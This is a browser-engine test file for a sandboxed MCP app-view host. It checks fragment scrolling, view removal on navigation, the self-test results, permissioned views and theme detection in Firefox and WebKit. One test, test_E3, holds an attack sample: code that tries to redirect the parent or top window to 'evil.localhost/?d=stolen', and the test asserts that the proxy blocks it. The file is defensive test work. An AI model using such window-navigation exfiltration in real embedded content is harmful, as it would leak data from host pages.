"""What other engines do otherwise than Chromium, in Firefox and WebKit: `make test-engines`, not `make test`.

WebRTC in Firefox (E4), connections in advance (E5) and frames that can be found (E6) are tried by the attacks, which
run there as well: `stun` and its kin, `preconnect`, `other-server-dom` and the class "spoofed messages".
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest

from cloche import Server, View
from cloche.host import Host, Policy
from tests.engines.conftest import Browser, Page
from tests.support.product import Product
from tests.support.transport_site import TransportSite
from tests.web.transports.tabs import LIBRARY
from tests.web.transports.test_tab import CLIENT, SERVE, WHO

LONG = """<!doctype html><html><body>
<p><a id="link" href="#there">down</a> <a id="top" href="#">up</a></p>
<div style="height:3000px"></div><p id="there">x</p>
<script>
window.token = "first";
window.hashes = 0;
addEventListener("hashchange", () => hashes++);
let last = 0;
const ask = (method, params) => parent.postMessage({ jsonrpc: "2.0", id: ++last, method, params }, "*");
addEventListener("message", ({ data }) => {
  if (data.id) document.body.dataset.answered = data.id;
  if (data.params?.theme) document.body.dataset.theme = data.params.theme;
});
ask("ui/initialize", { protocolVersion: "2026-01-26", appInfo: { name: "x", version: "1" }, appCapabilities: {} });
</script>"""
"""A view that is taller than its frame, with a table of contents."""

INNER = None
PROXY = """(() => {
  let found = parent;
  try {
    while (found.parent.document) found = found.parent;
  } catch {
    // the next one has another origin
  }
  return found;
})()"""
"""The outermost window that a view with a permission can touch: its proxy's."""
STATE = "() => document.querySelector('mcp-app').state"
ERROR = "() => document.querySelector('mcp-app').error?.code ?? ''"


@pytest.fixture(scope="package")
def product() -> Iterator[Product]:
    server = Server("shown")
    server.register_tool(lambda: "x", name="long", view=View(LONG, script=False))
    server.register_tool(lambda: "x", name="camera", view=View(LONG, script=False, permissions=["camera"]))
    host = Host({"shown": server}, secret="a secret for the tests of engines", policy=Policy(permission="allow"))
    with Product(host) as running:
        yield running


@pytest.fixture
def shown(product: Product, browser: Browser) -> Page:
    """A page with the long view on it."""
    page = browser.open(product.page(product.embed("shown.long", {})))
    page.until(f"() => ({STATE})() === 'ready'")
    page.until("() => document.body.dataset.answered === '1'", frame=INNER)
    return page


def answers(page: Page) -> None:
    """The view still speaks with the host, and is the page that it was."""
    page.run("() => { delete document.body.dataset.answered; ask('ping', {}); }", frame=INNER)
    page.until("() => document.body.dataset.answered", frame=INNER)
    assert page.run("() => token", frame=INNER) == "first"
    assert page.run(STATE) == "ready"


def test_E1_a_link_to_a_fragment_scrolls_and_the_view_lives_on(shown: Page) -> None:
    shown.run("() => link.click()", frame=INNER)
    shown.until("() => scrollY > 1000 && hashes === 1", frame=INNER)
    answers(shown)
    shown.run("() => document.getElementById('top').click()", frame=INNER)
    shown.until("() => scrollY === 0", frame=INNER)
    answers(shown)
    shown.run("() => { location.hash = 'there'; }", frame=INNER)
    shown.until("() => scrollY > 1000", frame=INNER)
    answers(shown)


LEAVING = {
    "reload": "location.reload()",
    "document-open": "document.open(); document.write('<p>new</p>'); document.close()",
    "fragment, then document-open": "location.hash = 'there'; setTimeout(() => { document.open(); document.close(); })",
}


@pytest.mark.parametrize("how", LEAVING.values(), ids=LEAVING)
def test_E1_a_view_that_becomes_another_page_is_removed(shown: Page, how: str) -> None:
    shown.run(f"() => {{ setTimeout(() => {{ {how} }}); }}", frame=INNER)
    assert shown.until(ERROR) == "navigated"


def test_E2_E8_the_self_test_says_what_this_browser_can(product: Product, browser: Browser) -> None:
    page = browser.open(f"http://localhost:{product.port}/cloche/self-test")
    page.until("() => !document.getElementById('copy').disabled")
    found: dict[str, str] = page.run(
        "() => Object.fromEntries([...document.querySelectorAll('#checks li')].map((one) => "
        "[one.dataset.check, one.dataset.state]))"
    )
    # Neither knows Connection-Allowlist yet: when one does, this says so, and the documents have to change.
    notes = dict.fromkeys(("rtc", "preconnect", "clipboard"), "note")
    passed = dict.fromkeys(("origin", "loads", "opaque", "proxy", "network", "socket"), "ok")
    assert found == {**passed, **notes, "busy": "note" if browser.name == "webkit" else "ok"}


def test_E3_a_view_with_a_permission_is_shown_in_a_page_that_keeps_its_proxy(
    product: Product, browser: Browser
) -> None:
    page = browser.open(product.page(product.embed("shown.camera", {})))
    page.until(f"() => ({STATE})() === 'ready'")
    assert re.match(
        r"http://shown-\w+\.localhost:", page.until("() => self.origin !== 'null' && self.origin", frame=INNER)
    )
    # What code in the proxy's page can do is tried by the attacks `permission-then-away`, with a control.
    for target in (".parent", ".top"):
        away = f"{PROXY}{target}.location = 'http://evil.localhost/?d=stolen'"
        page.run(f"() => {{ try {{ {away} }} catch {{}} }}", frame=INNER)
    assert page.until(f"() => {PROXY}.document.title", frame=INNER) == "Sandbox"
    assert page.run(STATE) == "ready"


def test_E7_a_dark_background_is_dark_in_every_color_space(shown: Page) -> None:
    """Firefox computes this one as `oklab(0.1 0 5.96047e-9)`."""
    shown.run("() => { document.body.style.background = 'color-mix(in oklab, black 90%, white)'; }")
    shown.until("() => document.body.dataset.theme === 'dark'", frame=INNER)


def test_E7_the_csp_of_an_app_host_that_the_browser_ignores_is_said_to_be_ignored(
    product: Product, browser: Browser
) -> None:
    page = browser.open(product.page(""))
    said = page.run(
        """async () => {
            const { createAppHost } = await import("/cloche/mcp-app.js"), said = [], { warn } = console;
            console.warn = (text) => said.push(text);
            const options = { container: document.body, allowedOrigins: [origin], connectionTimeout: 1, csp: "x" };
            await createAppHost(options).load({ src: origin + "/elsewhere" }).catch(() => {});
            console.warn = warn;
            return said;
        }"""
    )
    assert [text for text in said if "ignores csp" in text], said


APP = """import { createAppChild } from "/src/cloche/web/host/app-child.js";
const rolled = { content: [{ type: "text", text: "4" }] };
const answers = { initialize: { serverInfo: { name: "dice" } }, "tools/call": rolled };
createAppChild({ allowedOrigins: ["PAGE"], onRequest: (method) => answers[method] }).ready();"""

LOAD = """async (src) => {
  const { createAppHost } = await import("/src/cloche/web/host/app-host.js");
  const sandbox = ["allow-scripts", "allow-same-origin"];
  const host = createAppHost({ container: document.body, allowedOrigins: [new URL(src).origin], sandbox });
  const app = await host.load({ src });
  return (await app.callTool("roll")).content[0].text;
}"""


def test_an_app_by_url_hears_the_page_from_its_own_parent(browser: Browser) -> None:
    """WebKit takes the one who made a tail call for the sender of a message, and apps look at who that is."""
    with TransportSite() as site:
        site.add("/app.js", APP.replace("PAGE", site.url).encode())
        site.add("/app.html", b'<!doctype html><script type="module" src="/app.js"></script>')
        page = browser.open(f"{site.url}/empty.html")
        assert page.run(LOAD, f"{site.other_url}/app.html") == "4"


def test_E7_a_tab_serves_again_after_the_visitor_has_gone_back(browser: Browser) -> None:
    """Firefox keeps no page that holds a lock, as each that serves does: it is loaded again, and its script serves."""
    with TransportSite() as site:
        server, client = (equipped(browser.open(f"{site.url}/empty.html")) for _ in range(2))
        server.run(SERVE, "first")
        client.run(CLIENT)
        session = server.run("() => server.sessionId")
        server.goto(f"{site.url}/empty.html?elsewhere")
        server.until("() => location.search === '?elsewhere'")
        assert equipped(server).run(SERVE, "elsewhere") is True
        assert client.run(WHO) == "elsewhere"
        server.run("() => { setTimeout(() => history.back()); }")
        server.until("() => location.search === ''")
        if not server.run("() => 'server' in globalThis"):
            assert equipped(server).run(SERVE, "first") is True
        assert client.run(WHO) == "first"
        assert server.run("() => [server.epoch, server.sessionId]") == [3, session]


def equipped(page: Page) -> Page:
    """The page, with what the tests of transports use."""
    page.until(f"() => import({LIBRARY!r}).then(() => true)")
    return page
